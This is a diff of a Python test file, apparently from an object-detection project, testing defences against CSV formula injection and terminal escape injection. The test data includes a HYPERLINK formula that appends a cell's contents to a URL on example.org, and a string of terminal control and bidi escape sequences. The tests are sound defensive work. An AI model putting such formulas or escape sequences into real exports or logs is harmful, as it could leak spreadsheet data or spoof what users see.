@@ -1,4 +1,4 @@
-"""What is written as CSV is no formula, whatever names it holds."""
+"""Untrusted text cannot break a one-line message, and is no formula in CSV."""
 
 import csv
 import shutil
@@ -8,8 +8,9 @@ from tiny_detector import tiny_detector, write_checkpoint  # noqa: F401
 
 from epsanet_mmdet.config.load import load_config
 from epsanet_mmdet.inference import infer_to_folder
-from epsanet_mmdet.utils.spreadsheet import csv_row
+from epsanet_mmdet.utils.text import csv_row, printable
 
+HOSTILE = 'A\x1b[2J\x1b]0;owned\x07\x9b31m\x1b[8mB\r\b\x7f\x00\u202eC\n999 errors'
 FORMULAS = [
     '=1+1',
     '=HYPERLINK("http://example.org/?"&A1,"see")',
@@ -24,16 +25,16 @@ FORMULAS = [
 
 
 @pytest.mark.parametrize('text', FORMULAS)
-def test_a_text_that_would_be_a_formula_begins_with_an_apostrophe(text):
+def test_text_that_would_be_a_formula_gets_an_apostrophe(text):
     assert csv_row([text, 'cat']) == ["'" + text, 'cat']
 
 
 @pytest.mark.parametrize('value', ['cat', '', 'a=b', ' =1', "'=1", 1, -1, -0.5, float('-inf')])
-def test_other_texts_and_numbers_are_kept(value):
+def test_other_text_and_numbers_are_unchanged(value):
     assert csv_row([value]) == [value]
 
 
-def test_pictures_and_classes_in_the_table_of_inference(tiny_detector, tmp_path):  # noqa: F811
+def test_the_table_of_inference_has_no_formula(tiny_detector, tmp_path):  # noqa: F811
     classes = tuple(FORMULAS[1:3])
     config = load_config(tiny_detector.config)
     checkpoint = write_checkpoint(
@@ -57,3 +58,14 @@ def test_pictures_and_classes_in_the_table_of_inference(tiny_detector, tmp_path)
     assert {row['class'] for row in rows} <= {f"'{name}" for name in classes}
     assert len(rows) > 3
     assert all(float(row['score']) >= 0 and float(row['x1']) >= 0 for row in rows)
+
+
+@pytest.mark.parametrize('text', [HOSTILE, HOSTILE * 20, '\r' + HOSTILE, '\ud800\udfff', 'a\x85b'])
+def test_printable_text_is_one_short_line(text):
+    shown = printable(text)
+    assert shown.isprintable() and len(shown) <= 80
+
+
+def test_printable_text_keeps_letters_of_all_scripts():
+    text = 'Bälle 箱\u3000子 किताब كتاب עברית 😀 a\xa0b'
+    assert printable(text) == text
